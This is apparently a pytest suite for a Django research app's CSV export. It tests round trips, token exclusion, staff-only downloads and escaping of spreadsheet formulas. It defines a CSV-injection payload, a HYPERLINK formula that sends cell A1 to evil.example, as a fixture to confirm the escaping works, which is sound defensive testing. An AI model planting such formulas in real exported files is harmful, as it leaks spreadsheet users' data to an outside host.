"""CSV export: round trips against the database, the formula guard, the views and the command."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from django.core.management import CommandError, call_command
from django.http import StreamingHttpResponse
from django.urls import reverse

from studies.estimate import export, results
from studies.models import Candidate, ComparisonItem, Judgment
from studies.text import safe_text, unescape_cell
from tests.factories import (
    make_attention_item,
    make_item,
    make_participant,
    make_policy,
    make_prompt,
    make_study,
)
from tests.judgments import make_judgment

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1, "click")'


@pytest.fixture
def study():
    study = make_study(slug="export-me", k_values=[2], allow_cant_decide=True)
    alpha = make_policy(study=study, name="alpha")
    people = [make_participant(study=study), make_participant(study=study, is_simulated=True)]
    for i in range(3):
        prompt = make_prompt(study=study, external_id=f"-ext{i}", text=f"+Prompt {i}, with \"quotes\"\nand a line")
        item = make_item(study=study, prompt=prompt, policy=alpha, k=2, predicted_win_rate=0.75,
                         texts=[HOSTILE if i == 0 else f"plain {i}", f"@two\n{i}", f"three, {i}"],
                         counts=[(1, 1), (1, 0), (0, 1)] if i != 2 else [(2, 0), (0, 1), (0, 1)])
        make_judgment(item=item, participant=people[0], pick=i % 3, reverse=True, rationale="-because")
        make_judgment(item=item, participant=people[1], pick=None if i == 1 else 0, latency_ms=None)
    check = make_attention_item(study=study, prompt=prompt, texts=["ok", "broken"], broken=1)
    make_judgment(item=check, participant=people[0], pick=1, attention_passed=False)
    return study


def read(study, table, **kwargs) -> list[dict[str, str]]:
    text = "".join(export.iter_csv(study, table, **kwargs))
    return list(csv.DictReader(io.StringIO(text)))


def text(cell: str) -> str:
    return unescape_cell(cell)


def test_judgments_csv_reads_back_as_the_database_rows(study):
    rows = {int(row["judgment_id"]): row for row in read(study, "judgments")}
    judgments = Judgment.objects.filter(assignment__item__study=study).select_related(
        "assignment__participant", "assignment__item__prompt", "assignment__item__policy", "chosen"
    )
    assert set(rows) == {j.pk for j in judgments}
    for j in judgments:
        row, item = rows[j.pk], j.assignment.item
        assert row["study"] == "export-me"
        assert (int(row["prompt_id"]), text(row["prompt_external_id"])) == (item.prompt_id, item.prompt.external_id)
        assert (int(row["item_id"]), int(row["k"]), int(row["m"])) == (item.pk, item.k, item.m)
        assert text(row["policy"]) == (item.policy.name if item.policy else "")
        assert text(row["opponent"]) == item.opponent_label
        displayed = [item.shown.get(pk=pk) for pk in j.assignment.display_order]
        assert row["shown"] == ";".join(f"{ic.candidate_id}:{pos}" for pos, ic in enumerate(displayed, 1))
        if j.chosen:
            assert int(row["chosen_candidate_id"]) == j.chosen.candidate_id
            assert int(row["chosen_position"]) == j.chosen_slot
            assert displayed[j.chosen_slot - 1] == j.chosen
            assert (int(row["chosen_count_policy"]), int(row["chosen_count_opponent"])) == (
                j.chosen.count_policy, j.chosen.count_opponent)
        else:
            assert row["chosen_candidate_id"] == row["chosen_position"] == ""
        assert (float(row["credit"]) if row["credit"] else None) == j.credit
        assert row["cant_decide"] == ("true" if j.cant_decide else "false")
        assert row["attention_passed"] == {None: "", True: "true", False: "false"}[j.attention_passed]
        assert text(row["participant"]) == j.assignment.participant.pseudonym
        assert row["is_simulated"] == ("true" if j.assignment.participant.is_simulated else "false")
        assert (int(row["latency_ms"]) if row["latency_ms"] else None) == j.latency_ms
        assert datetime.fromisoformat(row["created_at"]) == j.created_at
        assert datetime.fromisoformat(row["rendered_at"]) == j.rendered_at
        assert text(row["rationale"]) == j.rationale


def test_judgments_export_never_contains_access_tokens(study):
    body = "".join(export.iter_csv(study, "judgments"))
    for person in study.participants.all():
        assert person.access_token not in body


def test_judgments_can_be_limited_to_real_annotators(study):
    rows = read(study, "judgments", origin="real")
    assert {row["is_simulated"] for row in rows} == {"false"}
    assert len(rows) == 4


def test_candidates_csv_round_trips_hostile_and_multiline_texts(study):
    rows = {int(row["candidate_id"]): row for row in read(study, "candidates")}
    candidates = Candidate.objects.filter(prompt__study=study)
    assert set(rows) == {c.pk for c in candidates}
    for candidate in candidates:
        row = rows[candidate.pk]
        assert text(row["text"]) == candidate.text
        assert row["text_sha256"] == candidate.text_sha256
        assert int(row["multiplicity"]) == candidate.multiplicity
    hostile = next(row for row in rows.values() if HOSTILE in row["text"])
    assert hostile["text"] == "'" + HOSTILE


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'quoted"])
def test_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value):
    assert safe_text(value) == "'" + value
    assert unescape_cell(safe_text(value)) == value


def test_plain_text_cells_are_left_alone():
    assert safe_text("a = b") == "a = b"
    assert unescape_cell("a = b") == "a = b"


def test_items_csv_holds_the_shown_texts_with_provenance(study):
    rows = {int(row["item_id"]): row for row in read(study, "items")}
    items = ComparisonItem.objects.filter(study=study)
    assert set(rows) == {item.pk for item in items}
    for item in items:
        expected = ";".join(
            f"{ic.candidate_id}:{ic.slot}:{ic.count_policy}:{ic.count_opponent}" for ic in item.shown.order_by("slot")
        )
        assert rows[item.pk]["shown"] == expected
        assert rows[item.pk]["is_attention_check"] == ("true" if item.is_attention_check else "false")


def test_prompts_csv_round_trips_texts(study):
    rows = read(study, "prompts")
    assert [text(row["text"]) for row in rows] == list(study.prompts.order_by("id").values_list("text", flat=True))
    assert rows[0]["external_id"] == "'-ext0"


def test_summary_csv_holds_the_results_table(study):
    rows = read(study, "summary", origin="all")
    assert [row["row"] for row in rows] == ["win_rate", "headline_adversary_cell", "robust_min_over_opponents"]
    assert [row["role"] for row in rows] == ["cell", results.HEADLINE_ROLE, results.CONSERVATIVE_ROLE]
    assert float(rows[0]["ci_low"]) <= float(rows[0]["estimate"]) <= float(rows[0]["ci_high"])


def test_export_streams_in_chunks(study, monkeypatch):
    monkeypatch.setattr(export, "ROWS_PER_WRITE", 2)
    chunks = list(export.iter_csv(study, "judgments"))
    assert len(chunks) == 4  # 7 rows: 2 + 2 + 2 + 1, the header riding on the first
    assert chunks[0].startswith("study,judgment_id,")


def test_unknown_table_is_rejected(study):
    with pytest.raises(ValueError, match="^table"):
        list(export.iter_csv(study, "passwords"))


def test_download_view_streams_csv_to_staff(researcher_client, study):
    response = researcher_client.get(reverse("studies:export", args=[study.slug, "judgments"]))
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="export-me-judgments.csv"' in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode()
    assert len(list(csv.DictReader(io.StringIO(body)))) == 7


def test_download_view_is_closed_to_anonymous_and_non_staff(client, outsider, study):
    url = reverse("studies:export", args=[study.slug, "candidates"])
    assert client.get(url).status_code == 302
    client.force_login(outsider)
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def test_download_view_404s_for_an_unknown_table(researcher_client, study):
    assert researcher_client.get(reverse("studies:export", args=[study.slug, "passwords"])).status_code == 404


def test_export_command_writes_the_table_to_a_file(study, tmp_path):
    output = tmp_path / "judgments.csv"
    call_command("export_study", study.slug, "--table", "judgments", "--output", str(output))
    with output.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 7
    assert not (tmp_path / "judgments.csv.partial").exists()


def test_export_command_rejects_an_unknown_study():
    with pytest.raises(CommandError, match="No study"):
        call_command("export_study", "no-such-study")
